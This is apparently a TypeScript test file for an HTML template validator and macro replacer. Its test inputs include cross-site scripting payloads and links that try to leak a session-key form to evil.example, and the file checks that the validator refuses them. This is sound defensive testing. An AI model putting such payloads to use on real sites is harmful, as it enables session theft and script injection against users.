import test from 'ava';
import { LIMITS, type TemplateId } from '../kernel/index.ts';
import {
  addsKeyForm,
  DEFAULT_TEMPLATE,
  type HtmlTemplate,
  type Macro,
  MACROS,
  replaceMacros,
  templateProblems,
  templateWarnings,
} from './html-template.ts';

function values(more: Partial<Record<Macro, string>> = {}): Readonly<Record<Macro, string>> {
  const all = Object.fromEntries(Object.keys(MACROS).map((name) => [name, `[${name}]`]));
  return { ...(all as Record<Macro, string>), ...more };
}

const problems = (html: string, others: readonly HtmlTemplate[] = []) =>
  templateProblems({ name: 'Ours', html }, others);

test('each macro is replaced, and a value is never looked at again', (t) => {
  const html = replaceMacros(DEFAULT_TEMPLATE, values(), 'en');
  t.notRegex(html, /%%/);
  for (const name of Object.keys(MACROS).filter((each) => DEFAULT_TEMPLATE.includes(`%%${each}%%`))) {
    t.true(html.includes(`[${name}]`), name);
  }
  t.is(
    replaceMacros(
      '%%TITLE%% %%LEAD%%',
      values({ TITLE: '%%LEAD%%', LEAD: "$& $' {{7*7}} %%ONLY:en%%x%%END%%" }),
      'en',
    ),
    "%%LEAD%% $& $' {{7*7}} %%ONLY:en%%x%%END%%",
  );
});

test('what is no macro stays as it is written', (t) => {
  for (const html of [
    '%%NOPE%%',
    '%%title%%',
    '%%',
    '100 %% sure',
    '{{TITLE}}',
    '%%constructor%%',
    '%%__PROTO__%%',
  ]) {
    t.is(replaceMacros(html, values(), 'en'), html);
  }
});

test('text may be for some languages only, and for all that have none of their own', (t) => {
  const html = 'a%%ONLY:de, fr%%D%%SITE_NAME%%%%END%%b%%ONLY:else%%E%%END%%c%%ONLY:ja%%J%%END%%';
  const shown = (language: string) => replaceMacros(html, values({ SITE_NAME: 'N' }), language);
  t.is(shown('de'), 'aDNbc');
  t.is(shown('fr'), 'aDNbc');
  t.is(shown('ja'), 'abcJ');
  t.is(shown('ar'), 'abEc');
});

test('elements that would run, load or leave are refused, however they are written', (t) => {
  for (const html of [
    '<script>alert(1)</script>',
    '<ScRiPt/src=//evil.example>',
    '<b></b><iframe src="/">',
    '<META http-equiv="refresh" content="0; url=https://evil.example">',
    '<svg><script>1</script></svg>',
    '<base href="https://evil.example">',
    '<object data="/content/x">',
    '<style>a{}</style>',
    '</body>',
    '</script>',
    '<template>',
    '<%%TITLE%%>',
    '</%%SITE_NAME%%',
    "<a href='https://evil.example/?%%SESSION_KEY_FORM%%'>",
    "<a href='https://evil.example/?%%SESSION_KEY_FORM%%",
    '<a href="https://evil.example/?>%%SESSION_KEY_FORM%%">',
    '<p "><a href="https://evil.example/?">%%SESSION_KEY_FORM%%',
    '<a href="https://evil.example/?%%ONLY:ja%%>%%SESSION_KEY_FORM%%%%END%%">',
    '<a %%ONLY:ja%%href="https://evil.example/?%%END%%>',
    '<!--><a href="https://evil.example/?>%%SESSION_KEY_FORM%%"-->',
    '<!-- never closed',
    '<p title="a > b">',
    '<a/href=x>',
    '<!doctype html>',
    '<?php',
    '<p class="a"id="b">',
  ]) {
    t.truthy(problems(html)['html'], html);
  }
  for (const html of [
    '<main>',
    '<link rel="stylesheet" href="/content/x">',
    '<header>',
    '<base-line>',
    '< script',
    '<p>%%TITLE%%</p>',
    '<p title="%%TITLE%%">%%LOGO%%</p>',
    '<titled>',
    '<!-- %%TITLE%%, and what else -->',
    "<a href=/reach?a=1&b=2 class='x' hidden>",
    '<img src="/content/x" alt="" /><br/></p >',
    '<p %%ONLY:ar%%dir="rtl"%%END%%>1 < 2 <3',
  ]) {
    t.is(problems(html)['html'], undefined, html);
  }
  t.deepEqual(problems(DEFAULT_TEMPLATE), {});
});

test('a template has a name of its own and an end', (t) => {
  const other: HtmlTemplate = { id: 't' as TemplateId, name: 'OURS', html: 'x', revision: 1 };
  t.deepEqual(Object.keys(problems('x', [other])), ['name']);
  t.deepEqual(Object.keys(problems(' \n')), ['html']);
  t.deepEqual(Object.keys(problems('x'.repeat(LIMITS.templateCharacters + 1))), ['html']);
  t.deepEqual(Object.keys(problems('x'.repeat(1024 * 1024))), ['html']);
});

test('what probably is not meant is said: unknown macros, what is missing, what does nothing', (t) => {
  t.deepEqual(templateWarnings(DEFAULT_TEMPLATE), []);
  const warned = (html: string, about: RegExp) =>
    t.true(
      templateWarnings(html).some((warning) => about.test(warning)),
      `${html}: ${templateWarnings(html).join(' ')}`,
    );
  warned('%%NOPE%%', /%%NOPE%% is no macro/);
  warned('%%title%%', /%%title%% is no macro/);
  warned('%%ONLY:xx%%a%%END%%', /“xx” is no language/);
  warned('%%ONLY:de%%a', /%%ONLY:de%% is no macro/);
  warned('<main><h1>', /SESSION_KEY_FORM%% is missing/);
  warned('<p onclick="x()">', /onclick/);
  warned('<a href="javascript:x">', /javascript/);
  warned('<p style="x">', /style=/);
  warned('<img src="https://evil.example/x">', /Images of other servers/);
  t.true(addsKeyForm('<main>'));
  t.false(addsKeyForm(DEFAULT_TEMPLATE));
});
